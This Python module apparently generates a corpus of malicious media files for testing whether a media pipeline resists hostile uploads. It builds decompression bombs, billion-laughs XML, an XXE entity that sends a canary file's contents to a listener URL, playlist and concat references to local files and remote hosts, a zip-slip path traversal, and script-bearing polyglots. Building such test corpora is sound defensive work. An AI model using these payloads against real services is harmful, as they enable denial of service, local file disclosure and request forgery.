"""Files written by hand to do harm: lying headers, bombs, endless lengths, references, disguises."""

from __future__ import annotations

import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Final

import PIL.Image

_LARGEST: Final = 0xFFFFFFFF


@dataclass(frozen=True, slots=True)
class Traps:
    """What a file may try to reach, and must not."""

    canary: str
    """Path of a whole film that belongs to somebody else."""
    listener: str
    """host:port that records who connects."""


def make_crafted(originals: Mapping[str, bytes], traps: Traps) -> dict[str, bytes]:
    """Return every hand-written file by its name."""
    return {
        **lying_boxes(originals["film.mp4"]),
        **lying_sounds(originals["riff-unset.wav"]),
        **lying_streams(originals),
        **bombs(),
        **references(originals, traps),
        **nested(originals["film.mp4"]),
        **disguises(originals),
    }


def _patched(data: bytes, marker: bytes, offset: int, value: bytes) -> bytes:
    """Return the data with a value written so many bytes behind the first marker."""
    at = data.index(marker) + len(marker) + offset
    return data[:at] + value + data[at + len(value) :]


def _u32(value: int) -> bytes:
    return struct.pack(">I", value)


def _box(name: bytes, content: bytes) -> bytes:
    return _u32(len(content) + 8) + name + content


_BOX_PATCHES: Final = (
    ("timescale-0", b"mdhd", 12, 0),
    ("timescale-1", b"mdhd", 12, 1),
    ("timescale-largest", b"mdhd", 12, _LARGEST),
    ("lasts-30-years", b"mdhd", 16, _LARGEST),
    ("movie-timescale-0", b"mvhd", 12, 0),
    ("movie-timescale-1", b"mvhd", 12, 1),
    ("movie-lasts-for-ever", b"mvhd", 16, _LARGEST),
    ("rates-without-end", b"stts", 4, _LARGEST),
    ("picture-lasts-for-ever", b"stts", 12, _LARGEST),
    ("picture-lasts-no-time", b"stts", 12, 0),
    ("10-to-9-pictures-a-second", b"mdhd", 12, 1_000_000_000),
    ("samples-without-end", b"stsz", 8, _LARGEST),
    ("samples-of-4-gb", b"stsz", 4, _LARGEST),
    ("chunks-without-end", b"stco", 4, _LARGEST),
    ("chunks-elsewhere", b"stco", 8, 0x7FFFFFFF),
    ("chunk-of-everything", b"stsc", 12, _LARGEST),
    ("keys-without-end", b"stss", 4, _LARGEST),
    ("reordered-without-end", b"ctts", 4, _LARGEST),
    ("reordered-far", b"ctts", 12, 0x7FFFFFFF),
    ("edits-without-end", b"elst", 4, _LARGEST),
    ("edit-of-years", b"elst", 8, _LARGEST),
    ("edit-backwards", b"elst", 12, 0x80000001),
    ("huge-picture", b"avc1", 24, _LARGEST),
    ("configuration-of-4-gb", b"avcC", -8, _LARGEST),
)


def lying_boxes(film: bytes) -> dict[str, bytes]:
    """MP4 whose tables lie, nest without end or repeat without end."""
    made = {
        f"box-{name}.mp4": _patched(film, marker, offset, _u32(value))
        for name, marker, offset, value in _BOX_PATCHES
    }
    nested = b""
    for _ in range(5000):
        nested = _box(b"moov", nested)
    head = film[: int.from_bytes(film[:4], "big")]
    track = film[film.index(b"trak") - 4 :]
    track = track[: int.from_bytes(track[:4], "big")]
    header = _box(b"mvhd", film[film.index(b"mvhd") + 4 :][:100])
    made["box-nested-5000.mp4"] = head + nested
    made["box-empty-100000.mp4"] = head + _box(b"free", b"") * 100_000
    made["box-tracks-2000.mp4"] = head + _box(b"moov", header + track * 2000)
    made["box-without-length.mp4"] = head + b"\0\0\0\1mdat" + b"\xff" * 8 + bytes(1000)
    return made


def lying_sounds(wav: bytes) -> dict[str, bytes]:
    """WAV whose format promises days, or what no machine can hold."""
    long = wav[:36] + b"data" + bytes(4) + bytes(1_500_000)
    fields = {
        "1-hertz": (24, 1, 4),
        "10-hertz": (24, 10, 4),
        "largest-rate": (24, _LARGEST, 4),
        "no-channels": (22, 0, 2),
        "65535-channels": (22, 65535, 2),
        "no-bits": (34, 0, 2),
        "65535-bits": (34, 65535, 2),
        "no-block": (32, 0, 2),
        "adpcm": (20, 0x11, 2),
        "unknown-codec": (20, 0xFFFE, 2),
    }
    return {
        f"wav-{name}.wav": long[:at] + value.to_bytes(width, "little") + long[at + width :]
        for name, (at, value, width) in fields.items()
    }


def lying_streams(originals: Mapping[str, bytes]) -> dict[str, bytes]:
    """Transport streams, Matroska, MXF, AVI, FLV and Ogg with the tricks of each."""
    ts, mkv, mxf, avi = (originals[f"film.{kind}"] for kind in ("ts", "mkv", "mxf", "avi"))
    ogg, flv = originals["sound.ogg"], originals["film.flv"]
    packets = [ts[at : at + 188] for at in range(0, len(ts), 188)]
    backwards = b"".join(packets[:3] + packets[:2:-1])
    pids = b"".join(
        b"\x47" + struct.pack(">H", 0x4000 | n & 0x1FFF) + b"\x10" + b"\xff" * 184 for n in range(9000)
    )
    key = b"\x06\x0e\x2b\x34\x01\x02\x01\x01\x0d\x01\x03\x01\x15\x01\x05\x00"
    return {
        "ts-only-syncs.ts": b"\x47" * 1_500_000,
        "ts-backwards.ts": backwards,
        "ts-8191-pids.ts": ts + pids,
        "ts-only-adaptation.ts": ts + (b"\x47\x41\x00\x30\xb7" + b"\xff" * 183) * 5000,
        "ts-tables-alone.ts": b"".join(packets[:3]) * 3000,
        "ts-syncs-in-noise.ts": b"\x47\x01\x02" * 30_000,
        "mkv-no-time.mkv": _patched(mkv, b"\x2a\xd7\xb1\x83", 0, b"\0\0\0"),
        "mkv-slow-time.mkv": _patched(mkv, b"\x2a\xd7\xb1\x83", 0, b"\xff\xff\xff"),
        "mkv-huge-element.mkv": mkv[:300] + b"\x1f\x43\xb6\x75\x08" + b"\xff" * 7 + mkv[300:],
        "mkv-clusters-without-size.mkv": mkv + b"\x1f\x43\xb6\x75\x01" * 100_000,
        "mkv-void.mkv": mkv[:200] + b"\xec\x80" * 200_000,
        "mxf-length-of-exabytes.mxf": mxf[:2000] + key + b"\x88" + b"\x7f" * 8 + mxf[2000:],
        "mxf-100000-empty-keys.mxf": mxf[:1000] + (key + b"\0") * 100_000,
        "mxf-partitions-in-a-circle.mxf": mxf + mxf[:200] * 500,
        "avi-no-rate.avi": _patched(avi, b"strh", 24, bytes(8)),
        "avi-fastest.avi": _patched(avi, b"strh", 24, b"\1\0\0\0\0\xca\x9a\x3b"),
        "avi-slowest.avi": _patched(avi, b"strh", 24, b"\xff\xff\xff\x7f\1\0\0\0"),
        "avi-lists.avi": avi[:12] + b"LIST\4\0\0\0hdrl" * 50_000,
        "ogg-pages-without-packets.ogg": ogg + (b"OggS\0" + bytes(21) + b"\0") * 30_000,
        "ogg-position-of-years.ogg": ogg[: ogg.rindex(b"OggS") + 6]
        + b"\xff" * 7
        + b"\x7f"
        + ogg[ogg.rindex(b"OggS") + 14 :],
        "flv-tags-without-end.flv": flv[:13] + b"\x12\0\0\0\0\0\0\0\0\0\0\0\0\0\x0b" * 50_000,
        "flv-months.flv": flv[:13] + b"\x09\0\0\5\xff\xff\xff\x7f\0\0\0\x17\1\0\0\0\0\0\0\x10" + flv[13:],
        "mp3-tag-of-256-mb.mp3": b"ID3\4\0\0\x7f\x7f\x7f\x7f" + originals["sound.mp3"],
        "flac-years.flac": originals["sound.flac"][:21] + b"\x7f" * 5 + originals["sound.flac"][26:],
    }


def _png(width: int, height: int, *chunks: tuple[bytes, bytes], colour: int = 2) -> bytes:
    head = (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _u32(len(data)) + name + data + _u32(zlib.crc32(name + data))
        for name, data in (head, *chunks, (b"IEND", b""))
    )


def bombs() -> dict[str, bytes]:
    """Pictures that are small on disk and huge in memory, or that never end."""
    zeros = zlib.compress(bytes(60_000_000), 9)
    gif = b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6)
    frame = b"\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0"
    tiff_head = b"II*\0\x08\0\0\0"

    def tiff(*tags: tuple[int, int, int, int], following: int = 0) -> bytes:
        entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
        return tiff_head + struct.pack("<H", len(tags)) + entries + struct.pack("<I", following) + bytes(64)

    size = ((256, 4, 1, 100_000), (257, 4, 1, 100_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1))
    small = io.BytesIO()
    PIL.Image.new("RGB", (64, 64)).save(small, "JPEG", progressive=True)
    jpeg = small.getvalue()
    scan = jpeg[jpeg.rindex(b"\xff\xda") : -2]
    at = jpeg.index(b"\xff\xc2") + 5
    j2k = io.BytesIO()
    PIL.Image.new("RGB", (64, 64)).save(j2k, "JPEG2000", no_jp2=True)
    bitmap = b"BM" + struct.pack("<IIIIiiHHIIiiII", 0, 0, 54, 40, 30_000, 30_000, 1, 24, 0, 0, 0, 0, 0, 0)
    return {
        "bomb-2-gigapixels-promised.png": _png(0x7FFFFFFF, 0x7FFFFFFF, (b"IDAT", zlib.compress(b""))),
        "bomb-200-megapixels.png": _png(20_000, 10_000, (b"IDAT", zeros)),
        "bomb-one-line.png": _png(199_000_000, 1, (b"IDAT", zeros)),
        "bomb-one-column.png": _png(1, 60_000_000, (b"IDAT", zeros)),
        "bomb-text.png": _png(8, 8, (b"zTXt", b"a\0\0" + zeros), (b"IDAT", zlib.compress(bytes(200)))),
        "bomb-profile.png": _png(8, 8, (b"iCCP", b"a\0\0" + zeros), (b"IDAT", zlib.compress(bytes(200)))),
        "bomb-chunks.png": _png(8, 8, *[(b"tEXt", b"a\0b")] * 50_000, (b"IDAT", zlib.compress(bytes(200)))),
        "bomb-canvas.gif": gif + frame + b"\x3b",
        "bomb-frames.gif": gif + frame * 20_000 + b"\x3b",
        "bomb-size.tif": tiff(*size, (273, 4, 1, 8), (278, 4, 1, 100_000), (279, 4, 1, _LARGEST)),
        "bomb-strips.tif": tiff((256, 4, 1, 64), (257, 4, 1, 64), (258, 3, 1, 8), (273, 4, _LARGEST // 8, 8)),
        "bomb-circle.tif": tiff((256, 4, 1, 4), (257, 4, 1, 4), following=8),
        "bomb-size.jpg": jpeg[:at] + b"\xff\xdc\xff\xdc" + jpeg[at + 4 :],
        "bomb-scans.jpg": jpeg[:-2] + scan * 5000 + b"\xff\xd9",
        "bomb-scans-of-a-large-one.jpg": jpeg[:at]
        + b"\x20\0\x20\0"
        + jpeg[at + 4 : -2]
        + scan * 3000
        + b"\xff\xd9",
        "bomb-size.j2k": _patched(j2k.getvalue(), b"\xff\x51", 4, _u32(60_000) * 2),
        "bomb-tiles.j2k": _patched(j2k.getvalue(), b"\xff\x51", 20, _u32(1) * 2),
        "bomb-size.bmp": bitmap + bytes(1000),
        "bomb-canvas.webp": b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\2\0\0\0\xff\x3e\0\xff\x3e\0ANIM",
    }


def references(originals: Mapping[str, bytes], traps: Traps) -> dict[str, bytes]:
    """Files that ask their reader to open other files and connections."""
    http, path = f"http://{traps.listener}", traps.canary
    master = "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{}\n#EXT-X-ENDLIST\n"
    port = traps.listener.partition(":")[2]
    sdp = "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\n"
    sdp += f"m=video {port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
    entity = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{path}">]>'
    mpd = f'<?xml version="1.0"?>{entity}<MPD><BaseURL>{http}/&a;</BaseURL></MPD>'
    laughs = (
        "<?xml version='1.0'?><!DOCTYPE l ["
        + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 12))
        + "<!ENTITY l0 'lol'>]><l>&l11;</l>"
    )
    url = _box(b"url ", bytes(4) + f"file://{path}\0".encode())
    dref = _box(b"dref", bytes(4) + _u32(1) + url)
    film = originals["film.mp4"]
    at = film.index(b"dref") - 4
    old = film[at : at + int.from_bytes(film[at : at + 4], "big")]
    made = {
        "hls-file.m3u8": master.format(f"file://{path}").encode(),
        "hls-path.mp4": master.format(path).encode(),
        "hls-http.mp4": master.format(f"{http}/a.ts").encode(),
        "hls-behind-spaces.mp4": b"\n \t" + master.format(f"{http}/a.ts").encode(),
        "hls-behind-junk.ts": originals["film.ts"][:1880] + master.format(f"{http}/a.ts").encode() * 50,
        "hls-crypto.mp4": master.format(f"crypto:file://{path}").encode(),
        "concat.mp4": f"ffconcat version 1.0\nfile '{path}'\n".encode(),
        "concat-http.mp4": f"ffconcat version 1.0\nfile {http}/a.mp4\n".encode(),
        "concat-protocol.mp4": f"concat:{path}|{http}/a".encode(),
        "session.mp4": sdp.encode(),
        "dash.mp4": mpd.encode(),
        "laughs.mp4": laughs.encode(),
        "drawing.png": f'<svg xmlns:xlink="x"><image xlink:href="{http}/a.png"/></svg>'.encode(),
        "redirector.asf": f"[Reference]\nRef1={http}/a.asf\n".encode(),
        "asx.asf": f'<asx version="3.0"><entry><ref href="{http}/a"/></entry></asx>'.encode(),
        "other-medium.mov": film[:at] + dref + film[at + len(old) :],
        "other-alias.mov": film.replace(b"url ", b"alis"),
        "movie-reference.mov": _box(
            b"moov",
            _box(b"rmra", _box(b"rmda", _box(b"rdrf", bytes(4) + b"url " + _u32(len(http)) + http.encode()))),
        ),
        "comment.mkv": originals["film.mkv"] + f"\x1c\x53\xbb\x6b{http}".encode("latin-1"),
    }
    return {f"reference-{name}": data for name, data in made.items()}


def nested(film: bytes) -> dict[str, bytes]:
    """Archives with a film, or with more archives, inside."""
    inner = bytes(20_000_000)
    for _ in range(3):
        inner = _zip("a.zip", inner)
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        entry = tarfile.TarInfo("film.mp4")
        entry.size = len(film)
        archive.addfile(entry, io.BytesIO(film))
    made = {
        "zip.mp4": _zip("film.mp4", film),
        "zips.mp4": inner,
        "up.zip": _zip("../../../../tmp/film.mp4", film),
        "gzip.mp4": gzip.compress(film, mtime=0),
        "gzip-bomb.mp4": gzip.compress(bytes(30_000_000), mtime=0),
        "xz.mp4": lzma.compress(film),
        "tar.mp4": tar.getvalue(),
        "7z.mp4": b"7z\xbc\xaf\x27\x1c" + film,
        "rar.mp4": b"Rar!\x1a\x07\x01\0" + film,
    }
    return {f"nested-{name}": data for name, data in made.items()}


def _zip(name: str, content: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def disguises(originals: Mapping[str, bytes]) -> dict[str, bytes]:
    """Files that are two things at once, or pretend to be another."""
    film, ts, jpeg = originals["film.mp4"], originals["film.ts"], originals["plain.jpg"]
    png, wav, mkv = originals["veiled.png"], originals["riff-unset.wav"], originals["film.mkv"]
    page = b"<html><script>fetch('http://127.0.0.1')</script></html>"
    made = {
        "picture-and-zip.jpg": jpeg + _zip("film.mp4", film),
        "picture-and-page.png": png + page,
        "picture-and-film.jpg": jpeg + film,
        "film-and-picture.mp4": film + jpeg,
        "film-in-film.mp4": film + _box(b"mdat", film * 3),
        "page-and-film.mp4": _box(b"free", page) + film,
        "script.gif": b"GIF89a/*" + originals["plain.gif"][8:] + b"*/=1;alert(1)",
        "document-and-film.mp4": b"%PDF-1.7\n" + film,
        "program-and-stream.ts": b"\x7fELF" + bytes(60) + ts,
        "text-and-stream.ts": b"Dear archive,\n" * 80 + ts,
        "tag-and-picture.mp3": b"ID3\4\0\0\0\0\0\x0a" + bytes(10) + png,
        "wave-and-video.wav": wav[:12] + originals["film.avi"][12:],
        "video-and-wave.avi": originals["film.avi"][:12] + wav[12:],
        "boxes-and-matroska.mp4": film[:32] + mkv,
        "matroska-and-boxes.mkv": mkv[:64] + film,
        "brand-of-a-picture.mp4": film.replace(b"isom", b"avif", 1),
        "brand-of-a-film.avif": originals["plain.avif"].replace(b"avif", b"isom", 1),
        "zeros-and-stream.ts": bytes(70_000) + ts,
        "one-byte.mp4": b"\0",
        "percent-%d-%n-%s.mp4": film[:5000],
    }
    return {f"disguise-{name}": data for name, data in made.items()}
